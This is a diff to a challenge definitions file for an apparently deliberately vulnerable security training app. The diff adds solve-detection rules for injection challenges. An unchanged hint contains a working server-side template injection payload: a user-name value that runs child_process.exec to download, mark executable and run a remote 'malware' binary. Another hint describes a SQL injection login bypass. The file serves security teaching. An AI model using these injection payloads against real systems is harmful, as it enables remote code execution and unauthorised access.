@@ -1,4 +1,6 @@
 import { type ChallengeEntry, on } from '../entry.js'
+import { isEphemeralAccountant } from '../rules/ephemeral-accountant.js'
+import { ranByServer } from '../rules/internal-address.js'
 import { tellsAllCredentials, tellsWholeSchema } from '../rules/leaked-rows.js'
 
 /** The challenges of the category Injection (contract: challenges.json). */
@@ -55,6 +57,7 @@ export const injection = {
     hasCodingChallenge: false,
     unavailableIn: [],
     needs: [],
+    solvedBy: on('account.loggedIn', ({ account }, { store, config }) => isEphemeralAccountant(account, store, config)),
     goal: 'Sign in as the accountant <code>acc0unt4nt@juice-sh.op</code>, who has never been hired, never been registered, and is not to be: the account must exist in <em>no table</em> at any time.',
     hints: [
       'Whoever the login query returns is signed in. It need not return something that is stored.',
@@ -205,6 +208,7 @@ export const injection = {
       'The malware is in the quarantine of the FTP folder. You need three commands in a row: download it, make it executable, run it.',
       "User name: #{global.process.mainModule.require('child_process').exec('wget -O malware https://github.com/J12934/juicy-malware/blob/master/juicy_malware_linux_64?raw=true && chmod +x malware && ./malware')}",
     ],
+    solvedBy: ranByServer,
   },
 
   unionSqlInjectionChallenge: {
